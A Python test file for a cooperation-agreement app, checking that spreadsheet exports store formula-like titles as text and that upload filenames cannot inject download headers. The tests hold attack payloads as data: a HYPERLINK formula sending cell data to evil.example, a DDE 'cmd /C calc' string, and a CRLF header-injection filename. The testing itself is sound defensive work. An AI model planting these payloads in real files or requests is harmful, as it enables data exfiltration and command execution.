"""Exported workbooks hold formula-like titles as text, and still import unchanged."""

from __future__ import annotations

import io
import re
from datetime import date
from pathlib import Path
from urllib.parse import unquote

from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy.orm import Session

from coopzone.cooperation import service
from coopzone.cooperation.schemas import AgreementCreate, PartyIn
from tests.helpers import Coop, token_for

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"点此")'
SUMMARY = "@SUM(1+1)*cmd|' /C calc'!A0"
SIGNED_AT = "-2+3"


def _agreement(session: Session, coop: Coop) -> None:
    service.create_agreement(session, coop.office, AgreementCreate(
        title=TITLE, parties=[PartyIn(name="萍乡市人民政府"), PartyIn(name="醴陵市人民政府")],
        field="transport", signed_on=date(2024, 1, 2), signed_at=SIGNED_AT, term_years=5,
        summary=SUMMARY))
    session.commit()


def test_agreement_export_writes_formula_like_text_as_text(
    files_client: TestClient, session: Session, coop: Coop
) -> None:
    _agreement(session, coop)
    for path in ("/cooperation/agreements.xlsx", "/api/v1/cooperation/agreements.xlsx"):
        response = files_client.get(path)
        assert response.status_code == 200
        assert response.headers["content-disposition"] == (
            "attachment; filename=\"agreements.xlsx\"; filename*=UTF-8''agreements.xlsx")
        sheet = load_workbook(io.BytesIO(response.content)).active
        assert sheet is not None
        row = {sheet.cell(1, c).value: sheet.cell(2, c) for c in range(1, sheet.max_column + 1)}
        for header, text in (("协议名称", TITLE), ("主要内容", SUMMARY), ("签署地点", SIGNED_AT)):
            cell = row[header]
            assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True), header
        assert (row["期限(年)"].value, row["期限(年)"].data_type) == (5, "n")
        assert row["序号"].data_type == "n"
    # The exported workbook still imports unchanged: the text was not altered.
    exported = files_client.get("/api/v1/cooperation/agreements.xlsx").content
    again = files_client.post("/api/v1/cooperation/agreements/import",
                              headers=token_for(session, coop.office_editor),
                              files={"file": ("export.xlsx", exported, XLSX)}).json()
    assert (again["new"], again["changed"], again["unchanged"]) == (0, 0, 1)


def test_an_uploaded_file_downloads_under_its_name_and_no_other(
    files_client: TestClient, session: Session, coop: Coop, tmp_path: Path
) -> None:
    name = '名单"; filename="evil.exe\r\nX-Evil: 1.pdf'
    # A file no record keeps is read by its uploader alone (a staged import, see tasks).
    doc = service.store_document(session, tmp_path / "files", name, b"%PDF-1.4 demo",
                                 coop.office_editor.username)
    session.commit()
    response = files_client.get(f"/cooperation/files/{doc.sha256}",
                                headers=token_for(session, coop.office_editor))
    assert response.status_code == 200 and response.content == b"%PDF-1.4 demo"
    assert "x-evil" not in response.headers
    assert response.headers["content-type"] == "application/pdf"
    match = re.fullmatch(r"attachment; filename=\"([ !#-\[\]-~]*)\"; "
                         r"filename\*=UTF-8''([A-Za-z0-9!#$&+.^_`|~%-]+)",
                         response.headers["content-disposition"])
    assert match, response.headers["content-disposition"]
    assert match[1] == "__ filename=evil.exeX-Evil: 1.pdf"
    assert unquote(match[2]) == '名单"; filename="evil.exeX-Evil: 1.pdf'
